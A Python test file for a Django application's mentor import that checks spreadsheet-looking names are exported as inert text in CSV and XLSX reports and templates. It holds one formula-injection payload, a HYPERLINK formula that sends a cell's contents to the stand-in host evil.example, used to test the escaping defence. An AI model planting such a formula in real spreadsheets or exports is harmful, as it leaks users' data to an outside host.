"""Imported names that look like formulas come out as inert text in Table 3 and templates."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from acompana.people.imports import spreadsheet_import

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
HEADER = (
    "code,first_name,last_name,email,region,highest_degree,teaching_years,management_years,"
    "accompaniment_experience,technical_assistance,programs_served,languages,capacity"
)


def import_formula_mentor(world):
    first_name = '"' + ATTACK.replace('"', '""') + '"'
    row = f"9Z,{first_name},@Quispe,nine@example.org,Cusco,licensed,5,0,yes,yes,1,es,8"
    spreadsheet_import(
        program=world.program,
        kind="mentors",
        content=f"{HEADER}\n{row}\n".encode(),
        filename="mentors.csv",
        actor=world.coordinator,
    )


def test_an_imported_formula_name_is_neutralized_in_the_table_3_csv(world, as_persona):
    import_formula_mentor(world)
    url = reverse("people:mentor_experience", args=[world.program.slug])
    text = as_persona("coordinator").get(url, {"format": "csv"}).content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "9Z")
    assert row[1] == f"'{ATTACK} @Quispe"


def test_an_imported_formula_name_is_a_text_cell_in_the_table_3_xlsx(world, as_persona):
    import_formula_mentor(world)
    url = reverse("people:mentor_experience", args=[world.program.slug])
    content = as_persona("coordinator").get(url, {"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == "9Z")
    assert (row[1].data_type, row[1].value) == ("s", f"'{ATTACK} @Quispe")
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_import_templates_are_written_through_the_same_cells(world, as_persona):
    url = reverse("people:import_template", args=[world.program.slug, "mentors", "xlsx"])
    sheet = load_workbook(io.BytesIO(as_persona("coordinator").get(url).content)).active
    assert [c.value for c in sheet[1]][:2] == ["code", "first_name"]
    assert all(c.data_type == "s" for c in sheet[1])
